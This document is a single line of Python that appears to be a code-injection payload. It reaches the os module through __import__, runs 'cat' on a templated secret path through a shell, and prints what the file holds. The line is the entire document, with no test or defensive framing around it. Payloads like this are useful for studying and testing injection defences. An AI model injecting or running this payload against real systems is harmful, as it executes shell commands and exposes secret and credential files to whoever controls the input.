print(__import__("os").popen("cat {secret}").read())
